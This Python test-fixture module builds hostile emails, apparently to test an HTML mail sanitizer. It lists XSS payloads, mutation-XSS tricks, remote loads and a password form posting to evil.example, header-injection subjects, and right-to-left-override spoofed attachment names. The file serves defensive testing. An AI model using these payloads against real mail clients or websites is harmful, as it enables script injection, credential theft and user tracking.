"""Mails made to hurt who looks at them, written by us. `.example` hosts (RFC 2606): a request to one is a failed test."""

import base64

EVIL = "http://evil.example"

#: What a reader of HTML may run, load, send or open by mistake; one attack each.
ATTACKS = (
    "<script>alert(1)</script>",
    f"<script src={EVIL}/s.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/i.png srcset='{EVIL}/j.png 2x' alt=logo>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    f"<svg><image href={EVIL}/v.png /><use href={EVIL}/u.svg#x /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    f"<iframe src={EVIL}/f srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={EVIL}/o></object><embed src={EVIL}/e><applet code={EVIL}/a></applet>",
    f"<link rel=stylesheet href={EVIL}/c.css><link rel=prefetch href={EVIL}/p><link rel=dns-prefetch href=//evil.example>",
    f"<style>@import url({EVIL}/m.css); body{{background:url({EVIL}/b.png)}} @font-face{{font-family:x;src:url({EVIL}/w)}}</style>",
    f"<p style='background:url({EVIL}/s.png)' onmouseover=alert(1)>styled</p>",
    f"<table background={EVIL}/t.png><tr><td background={EVIL}/d.png>cell</td></tr></table>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/r'><base href={EVIL}/>",
    f"<form action={EVIL}/post method=post><input name=password type=password autofocus onfocus=alert(1)><button>Send</button></form>",
    f"<a href={EVIL}/click ping={EVIL}/ping>https://bank.example/login</a> <a href='javascript:alert(1)'>run</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>data</a> <a href=//evil.example/x>relative</a>",
    f"<video poster={EVIL}/v.png src={EVIL}/v.mp4 autoplay></video><audio src={EVIL}/a.mp3 autoplay></audio>",
    f"<input type=image src={EVIL}/in.png><body background={EVIL}/body.png onload=alert(1)>",
    "</body></html></iframe></textarea></title></style></script><script>alert(1)</script>",
    "<p>\u202egnp.exe</p><p>pay\u200bpal</p><p>&#8238;txt.scr</p><p>\U000e0041\U000e0042hidden</p>",
    "<![CDATA[<script>alert(1)</script>]]><!--><script>alert(1)</script>--><?xml <script>alert(1)</script>?>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)",
)

HEADERS = (
    "Subject: =?utf-8?q?x=0D=0ABcc:_evil@x.example=0D=0A=0D=0A<script>alert(1)</script>?=\r\n"
    'From: =?utf-8?q?=E2=80=AE"<svg_onload=3Dalert(1)>?= <"<script>alert(1)</script>"@evil.example>\r\n'
    "Received: from <script>alert(1)</script> ([192.0.2.1]) by <img src=x onerror=alert(1)>; Mon, 23 Nov 2026 10:00:00 +0100\r\n"
    "X-Odd: <script>alert(1)</script>\r\n"
)


def letter(
    html: str = "<p>Hello</p>",
    text: str = "Hello, see https://evil.example/pay",
    *,
    head: str = "From: Lucky <win@lucky.example>\r\nSubject: Free spins\r\n",
    file_name: str = "invoice.pdf.exe",
) -> bytes:
    """A mail with text, HTML and a file."""
    encoded = base64.encodebytes(html.encode()).decode().replace("\n", "\r\n")
    return (
        f"{head}To: ana@example.org\r\nDate: Mon, 23 Nov 2026 10:00:00 +0100\r\nMessage-ID: <1@lucky.example>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="m"\r\n\r\n'
        '--m\r\nContent-Type: multipart/alternative; boundary="a"\r\n\r\n'
        f"--a\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n"
        f"--a\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{encoded}\r\n--a--\r\n"
        f'--m\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="{file_name}"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA\r\n--m--\r\n"
    ).encode()


def hostile_letters() -> dict[str, bytes]:
    """One mail for each attack, and one with all of them everywhere."""
    found = {f"attack {number}": letter(attack) for number, attack in enumerate(ATTACKS)}
    every = "\n".join(ATTACKS)
    name = "<script>alert(1)</script>\u202efdp.exe".replace('"', "")
    return {**found, "all": letter(every, every, head=HEADERS, file_name=name)}
